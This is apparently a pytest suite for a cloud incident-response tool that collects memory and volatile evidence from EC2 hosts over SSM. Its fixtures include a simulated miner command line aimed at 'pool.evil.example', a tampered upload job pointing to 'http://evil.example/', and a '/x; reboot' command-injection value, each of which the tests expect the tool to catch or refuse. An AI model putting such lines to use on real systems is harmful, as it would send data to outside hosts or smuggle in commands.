"""Volatile evidence of hosts in a sandbox: real scripts, real uploads. What is kept is read from S3."""

from __future__ import annotations

import hashlib
import json
import struct
import urllib.error
import urllib.request
from typing import Any, Dict, List

import pytest

from aws_bridge.errors import CallProblem
from lab import avml
from response.actions import collect_volatile as step
from response.aws.commands import Commands
from response.aws.handover import Tool, read_tools
from response.core import volatile
from response.core.target import Target
from response.errors import BadRequest, BadSettings, BadTarget, StillRunning
from response.handlers import collect_volatile as handler
from tests.response.faults import seen
from tests.response.hosts import DOCUMENT, KEY, Bench
from tests.response.server_room import REGION, Fault
from tests.response.small_plan import bench_of, let_it_be_used, outcomes, tool_of, why


@pytest.fixture(scope="module")
def bench(room) -> Bench:
    return bench_of(room)


@pytest.fixture(scope="module")
def anyone(bench) -> Target:
    """A host for many collections, each of an incident of its own."""
    return bench.host()


@pytest.fixture
def small(bench, monkeypatch):
    return let_it_be_used(bench, monkeypatch)


@pytest.mark.parametrize("shell", ("/usr/bin/dash", "/usr/bin/bash"))
def test_a_host_gives_everything_and_keeps_nothing(bench, shell):
    bench.later_s = 0.0
    target = bench.host(shell=shell)
    incident = bench.incident(target)
    result = bench.collect(target, incident)
    assert outcomes(result) == {**dict.fromkeys(outcomes(result), "collected"), "preloaded_libraries": "missing"}
    assert result.result == "done", result.says
    kept = bench.kept(target, incident)
    for each in result.evidence:
        if each.key:
            name = each.key.rpartition("/")[2]
            assert (each.sha256, each.bytes) == (hashlib.sha256(kept[name]).hexdigest(), len(kept[name]))
    # Processes with their command lines, and of the environment the names alone.
    text = kept["processes.txt"].decode()
    assert "cmdline: /tmp/.x/xmrig -o pool.evil.example:443" in text and "exe: /tmp/.x/xmrig (deleted)" in text
    assert "environment names: AWS_SECRET_ACCESS_KEY LD_PRELOAD" in text and "very-secret" not in text
    assert kept["deleted_open_files.txt"].decode().split("\n")[:2] == [
        "4242/exe /tmp/.x/xmrig (deleted)", "4242/fd/3 /tmp/a (deleted)",
    ]  # fmt: skip
    assert "sudo -i" in kept["shell_histories.txt"].decode() and "rootkit" in kept["kernel_modules.txt"].decode()
    assert "la57: yes" in kept["kernel.txt"].decode() and "System.map-6.1.0" in kept["symbols.txt"].decode()
    assert "boot_id" not in kept["clock.txt"].decode() and "5e1ec7ed-" in kept["clock.txt"].decode()
    ranges, place = [], 0
    while place < len(kept["memory.lime"]):
        magic, version, first, last, _ = struct.unpack_from("<IIQQQ", kept["memory.lime"], place)
        assert (magic, version) == (0x4C694D45, 1)
        ranges.append((first, last - first + 1))
        place += 32 + last - first + 1
    assert tuple(ranges) == avml.RANGES
    # What it left behind, and what it ran there.
    assert not (bench.root(target) / "var/lib/aws-siem-bridge").exists()
    notes = "\n".join(result.notes)
    assert f"{target.instance}" in notes and bench.tool.sha256 in notes and "/usr/bin/ss " in notes
    assert bench.open_uploads(target) == []
    # Asked again: the same evidence, no second command.
    again = bench.collect(target, incident)
    assert (again.result, again.evidence) == ("done", result.evidence) and len(bench.commands(target)) == 1


def test_what_a_reader_of_commands_gets_is_useless(bench, small, caplog):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    with pytest.raises(StillRunning) as running:
        bench.collection(target, incident, **small).collect(target, incident)
    (command,) = bench.commands(target)
    evidence = bench.room.locked_bucket()
    assert evidence not in json.dumps(command) and set(command["parameters"]) == {
        "incident", "jobUrl", "jobSha256", "toolUrl", "toolSha256", "workDirectory", "executionTimeout",
    }  # fmt: skip
    url = command["parameters"]["jobUrl"][0]
    job = _opened(url)
    assert hashlib.sha256(job).hexdigest() == command["parameters"]["jobSha256"][0]
    # The job's own addresses take parts of uploads, and give nothing.
    addresses = [line.split()[3] for line in job.decode().splitlines() if line.startswith("put ")]
    assert addresses and all("partNumber=" in each and "X-Amz-Signature=" in each for each in addresses)
    bench.room.account.deliver_commands(REGION)
    result = bench.collect(target, incident, **small)
    assert result.result == "done", result.says
    with pytest.raises(urllib.error.HTTPError):
        _opened(url)
    written = [str(running.value), json.dumps(result.to_json()), caplog.text]
    written += [each.decode("latin-1") for each in bench.kept(target, incident).values()]
    for text in written:
        assert "X-Amz" not in text and "Signature=" not in text


def _opened(url: str) -> bytes:
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=30) as answer:
        return bytes(answer.read())


def test_memory_larger_than_a_part_is_sent_in_parts(bench, small, monkeypatch):
    monkeypatch.setattr(volatile, "sizes", lambda _: volatile.Sizes(16, 5, 4))
    body = 'if [ "$1" = acquire ]; then head -c 12582912 /dev/zero >"$2"; else exec "$real" "$@"; fi'
    changed = tool_of(bench, "large", body)
    target = bench.host()
    incident = bench.incident(target)
    result = bench.collect(target, incident, **small, **changed)
    assert result.result == "done", result.says
    assert bench.kept(target, incident)["memory.lime"] == bytes(12 << 20)


@pytest.mark.parametrize(
    ("body", "outcome", "says"),
    [
        ('[ "$1" = acquire ] || exec "$real" "$@"; echo half >"$2"; echo no such device >&2; exit 1', "failed",
         "exit status 1: no such device"),
        ('[ "$1" = acquire ] || exec "$real" "$@"', "failed", "the capture tool wrote nothing"),
    ],
    ids=("breaks off", "writes nothing"),
)  # fmt: skip
def test_a_capture_that_fails_costs_the_rest_nothing(bench, small, body, outcome, says):
    changed = tool_of(bench, f"tool-{len(body)}", body)
    target = bench.host()
    incident = bench.incident(target)
    result = bench.collect(target, incident, **small, **changed)
    assert (result.result, outcomes(result)["memory"], outcomes(result)["kernel"]) == ("partial", outcome, "collected")
    assert says in why(result, "memory") and ("memory.lime" in bench.kept(target, incident)) == ("half" in body)
    assert outcomes(result)["nothing"] == "empty" and bench.open_uploads(target) == []


@pytest.mark.parametrize(
    ("tools", "files", "outcome", "says"),
    [
        (step.Tools({"x86_64": Tool(KEY, "0" * 64)}), {}, "failed", "not the one that is known: it was not run"),
        (step.Tools({"x86_64": Tool("none", "0" * 64)}), {}, "failed", "the capture tool could not be fetched"),
        (step.Tools({"arm64": Tool(KEY, "0" * 64)}), {}, "missing", "there is no capture tool for x86_64"),
        (step.Tools({}, "the parameter cannot be read"), {}, "failed", "the parameter cannot be read"),
        (None, {"proc/meminfo": "MemTotal: 999999999999 kB\n"}, "failed", "name a folder of a larger volume"),
    ],
    ids=("another tool", "no such tool", "another architecture", "no parameter", "no space"),
)
def test_without_a_capture_the_rest_is_collected(bench, small, tools, files, outcome, says):
    target = bench.host(files)
    result = bench.collect(target, how={"volume": False}, **small, **({"tools": tools} if tools else {}))
    assert (result.result, outcomes(result)["memory"], outcomes(result)["kernel"]) == ("partial", outcome, "collected")
    assert says in why(result, "memory") and "no whole memory" in result.says


def test_a_host_that_can_send_nothing_is_said(bench, small, tmp_path):
    (tmp_path / "curl").write_text(
        "#!/bin/sh\necho 'curl: (7) no way to https://x/?X-Amz-Signature=secret' >&2\nexit 7\n"
    )
    (tmp_path / "curl").chmod(0o755)
    target = bench.host(path=f"{tmp_path}:/usr/bin:/bin")
    result = bench.collect(target, **small, tools=step.Tools({}))
    assert set(outcomes(result).values()) == {"failed", "missing", "empty", "collected"}, "the last is the report"
    assert result.result == "partial" and "not sent: curl: (7) no way to https://x/?..." in why(result, "kernel")
    assert "secret" not in json.dumps(result.to_json())


@pytest.mark.parametrize(
    ("how", "says"),
    [
        (None, "no agent: SSM does not know the instance"),
        ({"ping": "ConnectionLost"}, "no agent: SSM's agent is ConnectionLost"),
    ],
)
def test_without_an_agent_every_item_is_missing(bench, how, says):
    target = bench.host(**how) if how else bench.room.server(ImageId=bench.image)
    incident = bench.incident(target)
    result = bench.collect(target, incident)
    assert result.result == "partial" and says in result.says and set(outcomes(result).values()) == {"missing"}
    assert bench.commands(target) == [] and set(bench.kept(target, incident)) == {"items.json"}


def test_windows_a_stopped_instance_and_none_at_all(bench):
    windows = bench.room.server()
    result = bench.collect(windows)
    assert result.result == "partial" and "not supported" in why(result, "memory")
    stopped = bench.host()
    bench.room.ec2.stop_instances(InstanceIds=[stopped.instance])
    result = bench.collect(stopped)
    assert result.result == "refused" and "nothing volatile left" in result.says
    with pytest.raises(BadTarget):
        bench.collect(stopped.__class__(stopped.account, REGION, "i-0123456789abcdef0"))


def test_a_dry_run_sends_nothing(bench):
    target = bench.host()
    incident = bench.incident(target)
    result = bench.collect(target, incident, {"dry_run": True})
    assert result.result == "planned" and "memory" in result.notes
    assert bench.commands(target) == [] and bench.kept(target, incident) == {} and bench.open_uploads(target) == []


def test_at_the_deadline_what_arrived_is_kept(bench, small):
    body = 'case "$1 $3" in "upload "*/part) sleep 600 ;; *) exec "$real" "$@" ;; esac'
    changed = tool_of(bench, "hangs", body)
    target = bench.host()
    incident = bench.incident(target)

    def kernel_arrived() -> bool:
        key = bench.folder(target, incident) + "collect_volatile/kernel.txt"
        for each in bench.s3.list_multipart_uploads(Bucket=bench.room.locked_bucket()).get("Uploads", ()):
            if each["Key"] == key:
                given = {"Bucket": bench.room.locked_bucket(), "Key": key, "UploadId": each["UploadId"]}
                return bool(bench.s3.list_parts(**given).get("Parts"))
        return False

    collection = bench.collection(target, incident, **small, **changed)
    bench.wait(lambda: _runs(collection, target, incident) and kernel_arrived())
    bench.later_s = 600 + step.GRACE_S + 1
    result = bench.collect(target, incident, **small, **changed)
    assert result.result == "partial" and "the deadline was over and the run was cancelled" in result.says
    assert bench.commands(target)[0]["status"][target.instance][0] == "Cancelled"
    assert bench.kept(target, incident)["kernel.txt"].startswith(b"Linux version")
    assert outcomes(result)["memory"] == "failed" and bench.open_uploads(target) == []
    assert any("files may be left below /var/lib/aws-siem-bridge" in each for each in result.notes)


def _runs(collection: Any, target: Any, incident: str, looks: int = 1) -> bool:
    for _ in range(looks):
        with pytest.raises(StillRunning):
            collection.collect(target, incident)
    return True


def test_a_command_that_no_agent_takes_is_said(bench, small):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    collection = bench.collection(target, incident, **small)
    _runs(collection, target, incident, looks=2)
    bench.room.account.expire_commands(REGION)
    result = bench.collect(target, incident, **small)
    assert result.result == "failed" and "TimedOut (DeliveryTimedOut)" in result.says
    assert bench.open_uploads(target) == []


def test_a_job_that_somebody_changed_is_not_followed(bench, small):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    collection = bench.collection(target, incident, **small)
    _runs(collection, target, incident)
    (job,) = bench.s3.list_objects_v2(Bucket=bench.jobs, Prefix=f"volatile-jobs/{incident}")["Contents"]
    bench.s3.put_object(Bucket=bench.jobs, Key=job["Key"], Body=b"put kernel 1 http://evil.example/\n")
    bench.room.account.deliver_commands(REGION)
    result = bench.collect(target, incident, **small)
    assert result.result == "failed" and "the job is not the one that was written" in result.says


def test_a_command_that_is_sent_twice_runs_once(bench, small, monkeypatch):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    collection = bench.collection(target, incident, **small)
    _runs(collection, target, incident)
    with monkeypatch.context() as hidden:
        hidden.setattr(Commands, "find", lambda *_: [])
        _runs(collection, target, incident)
        assert len(bench.commands(target)) == 1, "SSM's list may be late"
        bench.later_s = step.SEEN_AFTER_S + 1
        _runs(collection, target, incident, looks=3)
    bench.room.account.deliver_commands(REGION)
    result = bench.collect(target, incident, **small)
    assert result.result == "done" and len(bench.commands(target)) == 2, result.says


def test_two_calls_that_begin_at_once_send_one_command(bench, small, monkeypatch):
    target = bench.host()
    incident = bench.incident(target)
    collection = bench.collection(target, incident, **small)
    _runs(collection, target, incident)
    with monkeypatch.context() as blind:
        blind.setattr(step.VolatileCollection, "_read", lambda *_: None)
        bench.later_s = 1.0
        _runs(bench.collection(target, incident, **small), target, incident)
    assert bench.collect(target, incident, **small).result == "done" and len(bench.commands(target)) == 1
    assert bench.open_uploads(target) == []


#: Calls of a collection without a fault, of one that is late, and what goes wrong with them.
READING = (
    "ec2:DescribeInstances", "ec2:DescribeInstanceTypes", "ssm:DescribeInstanceInformation", "s3:GetObject",
    "s3:GetObjectLockConfiguration", "ssm:ListCommandInvocations", "ssm:GetCommandInvocation", "s3:ListParts",
)  # fmt: skip
CHANGING = (
    "s3:CreateMultipartUpload", "s3:PutObject", "ssm:SendCommand", "s3:CompleteMultipartUpload", "s3:DeleteObject",
    "s3:AbortMultipartUpload", "ssm:CancelCommand",
)  # fmt: skip
ASKED = (("denied", 0), ("timeout", 1))
CHANGED = (("denied", 0), ("throttled", 1), ("timeout", 0), ("half_done", 1))


def test_every_call_has_a_case(bench, small):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    bench.room.session.made.clear()
    _runs(bench.collection(target, incident, **small), target, incident)
    bench.room.account.deliver_commands(REGION)
    assert bench.collect(target, incident, **small).result == "done"
    made = {f"{service}:{call}" for service, call in bench.room.session.made}
    assert made == {*READING, *CHANGING} - {"ssm:CancelCommand"}


@pytest.mark.parametrize(
    "call, kind, times",
    seen("collect_volatile", [
        (call, *fault) for calls, faults in ((READING, ASKED), (CHANGING, CHANGED)) for call in calls
        for fault in faults if call != "ssm:CancelCommand"
    ]),
)  # fmt: skip
def test_a_failure_is_said_and_the_next_call_goes_on(bench, small, anyone, call, kind, times):
    target = anyone
    incident = bench.incident(target)
    session = bench.room.session
    session.fault, session.failed = Fault(call, kind, times), 0
    said: List[str] = []
    try:
        bench.wait(lambda: _said(bench, target, incident, small, said) or session.failed)
    finally:
        session.fault = None
    assert session.failed, "the fault never came"
    if "done" in said:
        assert set(bench.kept(target, incident)) >= {"memory.lime", "kernel.txt", "report.json", "items.json"}
    # A refusal is mended within the deadline; the address of the job is made anew.
    bench.later_s = step.SEEN_AFTER_S + 1
    result = bench.collect(target, incident, **small)
    kept = bench.kept(target, incident)
    assert result.result == "done", (result.says, said)
    assert kept["memory.lime"] == avml.image() and kept["kernel.txt"].startswith(b"Linux version")


def _said(bench: Bench, target: Any, incident: str, small: Dict[str, Any], said: List[str]) -> bool:
    """Call once; note what came of it; return whether it is over."""
    try:
        result = bench.collection(target, incident, **small).collect(target, incident)
    except StillRunning:
        return False
    except CallProblem as exc:
        said.append(str(exc))
        return True
    said.append(result.result)
    return True


@pytest.mark.parametrize(("kind", "times"), CHANGED)
def test_a_run_that_cannot_be_cancelled_is_said(bench, small, kind, times):
    target = bench.host(hold=True)
    incident = bench.incident(target)
    _runs(bench.collection(target, incident, **small), target, incident, looks=2)
    bench.later_s = 600 + step.GRACE_S + 1
    session = bench.room.session
    session.fault, session.failed = Fault("ssm:CancelCommand", kind, times), 0
    said: List[str] = []
    try:
        _said(bench, target, incident, small, said)
    finally:
        session.fault = None
    assert session.failed and said and "done" not in said
    result = bench.collect(target, incident, **small)
    assert result.result == "failed" and bench.open_uploads(target) == []


def test_the_function_collects_as_the_workflow_calls_it(bench, capsys):
    target = bench.host()
    incident = bench.incident(target)
    ssm = bench.room.account.client("ssm", REGION)
    tools = {"x86_64": {"key": KEY, "sha256": bench.tool.sha256, "version": "0.20.0"}}
    for name, known in (("limits", {"mode": "live"}), ("tools-pinned", tools)):
        ssm.put_parameter(Name=name, Value=json.dumps(known), Type="String", Overwrite=True)
    settings = {
        "AWS_REGION": REGION, "BUCKET": bench.room.locked_bucket(), "PARAMETER": "limits", "DOCUMENT": DOCUMENT,
        "UPLOAD_ROLE": bench.room.account.role("uploads"), "JOBS_BUCKET": bench.jobs, "TOOLS_BUCKET": bench.tools,
        "TOOLS_PARAMETER": "tools-pinned", "LOCK_MODE": "governance", "LOCK_DAYS": "1",
    }  # fmt: skip
    event = {"incident": incident, "account": target.account, "region": REGION, "instance": target.instance}
    prefix = "AWS_SIEM_BRIDGE_"
    environment = {name if name.startswith("AWS_REGION") else prefix + name: value for name, value in settings.items()}
    planned = handler.do({**event, "dry_run": True}, environment)
    assert planned["result"] == "planned" and bench.commands(target) == []
    found: List[Dict[str, Any]] = []

    def ended() -> bool:
        try:
            found.append(handler.do({**event, "dry_run": False}, environment))
        except StillRunning:
            return False
        return True

    bench.wait(ended)
    assert (found[0]["result"], found[0]["evidence"][0]["item"]) == ("done", "memory"), found[0]["says"]
    assert bench.kept(target, incident)["memory.lime"] == avml.image()
    out = capsys.readouterr()
    assert found[0]["says"] in out.out + out.err and "X-Amz" not in out.out + out.err
    for options in ({"volatile_deadline_s": "forever"}, {"work_folder": "/"}, {"work_folder": "/x; reboot"}):
        with pytest.raises(BadRequest):
            handler.do({**event, "dry_run": True, "options": options}, environment)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("no json", "names no capture tools"),
        ('{"x86_64": {"key": "avml"}}', "names no capture tools"),
        ('{"x86_64": {"key": "avml", "sha256": "latest"}}', "names no capture tools"),
    ],
)
def test_a_parameter_that_pins_nothing_is_refused(bench, text, says):
    ssm = bench.room.account.client("ssm", REGION)
    ssm.put_parameter(Name="tools", Value=text, Type="String", Overwrite=True)
    with pytest.raises(BadSettings, match=says):
        read_tools(bench.room.area, "tools")


def test_the_deadline_and_the_parts_come_from_the_memory():
    assert volatile.deadline_s(16 << 10) == 300 + (16 << 10) // 20
    assert (volatile.deadline_s(512), volatile.deadline_s(2 << 20), volatile.deadline_s(512, 120)) == (600, 3300, 120)
    for ram in (0, 512, 16 << 10, 1 << 20, 24 << 20):
        image, part, parts = volatile.sizes(ram)
        assert image == ram and part * parts >= (ram or 64 << 10) * 1.1 and 64 <= part <= 5 << 10 and parts <= 10_000


def test_what_the_host_says_is_read_with_care():
    report = volatile.report_of(
        "noise\nitem|a|collected|12|ab|a|b\nitem|b|perfect|1|x|\nitem|c|failed|x||no\nend|done\n"
    )
    assert report.items == {"a": volatile.Said("collected", 12, "ab", "a|b"), "c": volatile.Said("failed", 0, "", "no")}
    assert report.end == "done"
